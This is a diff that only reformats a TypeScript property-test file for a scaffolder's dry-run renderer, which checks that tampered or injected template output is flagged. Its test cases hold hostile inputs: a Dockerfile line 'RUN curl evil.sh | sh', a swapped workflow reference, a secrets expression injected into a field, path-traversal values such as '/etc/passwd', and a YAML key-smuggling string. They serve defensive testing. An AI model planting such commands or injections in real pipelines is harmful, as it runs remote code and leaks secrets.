@@ -37,8 +37,25 @@ import { DryRunFile, EmbeddedScaffolder, startEmbeddedScaffolder } from '../../c
 import { loadTemplateBundle, TemplateBundle } from '../../cli/src/dryrun/templateBundle';
 import { ENVIRONMENTS, SEED_VALUES, TEMPLATE_FILE } from '../support/rendered';
 import { applyChanges, changedFields, Field, FIELDS, fewFieldCases, manyFieldCases } from './support/arbitraries';
-import { BranchCounter, configureFastCheck, expectBothBranches, FULL_RUNS, KUSTOMIZE_CASES, propertySeed, shrinkBudget, timeoutFor } from './support/knobs';
-import { assertNoProblems, namedFields, pathProblems, probeValues, RenderModel, rejectionProblems, WORKFLOW } from './support/model';
+import {
+  BranchCounter,
+  configureFastCheck,
+  expectBothBranches,
+  FULL_RUNS,
+  KUSTOMIZE_CASES,
+  propertySeed,
+  shrinkBudget,
+  timeoutFor,
+} from './support/knobs';
+import {
+  assertNoProblems,
+  namedFields,
+  pathProblems,
+  probeValues,
+  RenderModel,
+  rejectionProblems,
+  WORKFLOW,
+} from './support/model';
 
 configureFastCheck();
 
@@ -83,17 +100,43 @@ describe('the model', () => {
   const tamper = (file: string, edit: (text: string) => string): DryRunFile[] =>
     model.seedFiles.map(f => (f.path === file ? { ...f, content: Buffer.from(edit(f.content.toString('utf8'))) } : f));
   it.each<[string, string, (text: string) => string, RegExp]>([
-    ['a new catalog relation', 'catalog-info.yaml', t => t.replace('  type: service', '  type: service\n  system: evil'), /spec|keys/],
+    [
+      'a new catalog relation',
+      'catalog-info.yaml',
+      t => t.replace('  type: service', '  type: service\n  system: evil'),
+      /spec|keys/,
+    ],
     ['a second owner document', 'catalog-info.yaml', t => `${t}---\nkind: Group\n`, /documents|items/],
     ['a changed uses:', WORKFLOW, t => t.replace('stateful-delivery.yml@v1', 'evil.yml@main'), /uses/],
-    ['a new GitHub expression', WORKFLOW, t => t.replace('app-name: my-redis', 'app-name: ${{ secrets.AWS_KEY }}'), /expression|app-name/],
-    ['a Kubernetes field nothing feeds', 'deploy/base/statefulset.yaml', t => t.replace('imagePullPolicy: IfNotPresent', 'imagePullPolicy: Always'), /imagePullPolicy/],
-    ['a name YAML 1.1 reads as a boolean', 'deploy/overlays/dev/kustomization.yaml', t => t.replace('  - name: my-redis\n', '  - name: y\n'), /YAML 1\.1|images/],
-    ['a new Dockerfile instruction', 'Dockerfile', t => t.replace('WORKDIR /app', 'WORKDIR /app\nRUN curl evil.sh | sh'), /Dockerfile/],
+    [
+      'a new GitHub expression',
+      WORKFLOW,
+      t => t.replace('app-name: my-redis', 'app-name: ${{ secrets.AWS_KEY }}'),
+      /expression|app-name/,
+    ],
+    [
+      'a Kubernetes field nothing feeds',
+      'deploy/base/statefulset.yaml',
+      t => t.replace('imagePullPolicy: IfNotPresent', 'imagePullPolicy: Always'),
+      /imagePullPolicy/,
+    ],
+    [
+      'a name YAML 1.1 reads as a boolean',
+      'deploy/overlays/dev/kustomization.yaml',
+      t => t.replace('  - name: my-redis\n', '  - name: y\n'),
+      /YAML 1\.1|images/,
+    ],
+    [
+      'a new Dockerfile instruction',
+      'Dockerfile',
+      t => t.replace('WORKDIR /app', 'WORKDIR /app\nRUN curl evil.sh | sh'),
+      /Dockerfile/,
+    ],
   ])('flags %s', (_label, file, edit, problem) => {
     const files = tamper(file, edit);
     expect(model.acceptedProblems(SEED_VALUES, files).join('\n')).toMatch(problem);
-    if (file !== 'deploy/overlays/dev/kustomization.yaml') expect(model.injectionProblems(SEED_VALUES, files).join('\n')).toMatch(problem);
+    if (file !== 'deploy/overlays/dev/kustomization.yaml')
+      expect(model.injectionProblems(SEED_VALUES, files).join('\n')).toMatch(problem);
   });
 
   it('flags paths outside the target folder and rejections that do not name the changed field', () => {
@@ -101,10 +144,17 @@ describe('the model', () => {
     for (const p of ['../evil', '/etc/passwd', 'deploy/../../x', 'a\\b', 'deploy//x', 'extra.txt']) {
       expect({ p, problems: pathProblems(extra(p)).length > 0 }).toEqual({ p, problems: true });
     }
-    expect(rejectionProblems({ owner: 'x' }, { status: 400, errors: ['The catalog entity is invalid'] })).not.toEqual([]);
+    expect(rejectionProblems({ owner: 'x' }, { status: 400, errors: ['The catalog entity is invalid'] })).not.toEqual(
+      [],
+    );
     expect(rejectionProblems({ owner: 'x' }, { status: 400, errors: ['- port: 1 must be ...'] })).not.toEqual([]);
     expect(rejectionProblems({ owner: 'x' }, { status: 500, errors: ['- owner: "x" ...'] })).not.toEqual([]);
-    expect(rejectionProblems({ component_id: 'x_' }, { status: 400, errors: ['The Stateful App values break 1 rule(s):\n- name: "x_" must ...'] })).toEqual([]);
+    expect(
+      rejectionProblems(
+        { component_id: 'x_' },
+        { status: 400, errors: ['The Stateful App values break 1 rule(s):\n- name: "x_" must ...'] },
+      ),
+    ).toEqual([]);
   });
 });
 
@@ -118,7 +168,9 @@ describe('properties of the real dry-run', () => {
           const values = applyChanges(changes);
           const result = await dryRun(values);
           counter.record(changedFields(changes), result.ok, result.ok ? [] : namedFields(result.errors));
-          assertNoProblems(result.ok ? model.acceptedProblems(values, result.files) : rejectionProblems(changes, result));
+          assertNoProblems(
+            result.ok ? model.acceptedProblems(values, result.files) : rejectionProblems(changes, result),
+          );
         }),
         { numRuns: FULL_RUNS, seed: propertySeed(1), plugins: [shrinkBudget(FULL_RUNS, MS_PER_CASE)] },
       );
@@ -176,7 +228,17 @@ describe('properties of the real dry-run', () => {
           // The issue's own example first: an owner that tries to add a spec key.
           examples: [
             [{ owner: 'group:default/x\nspec: {type: evil}' }],
-            [{ description: 'Cache: "fast" # really\n---\nspec: {owner: evil}\n- ${{ secrets.AWS_KEY }} {{ x }} {% raw %}\u2028&a *a !!binary', environment: 'prod', replicas: 3, storageSize: '1.5Ti', mountPath: '/var/lib/x/', port: 65535 }],
+            [
+              {
+                description:
+                  'Cache: "fast" # really\n---\nspec: {owner: evil}\n- ${{ secrets.AWS_KEY }} {{ x }} {% raw %}\u2028&a *a !!binary',
+                environment: 'prod',
+                replicas: 3,
+                storageSize: '1.5Ti',
+                mountPath: '/var/lib/x/',
+                port: 65535,
+              },
+            ],
           ],
         },
       );
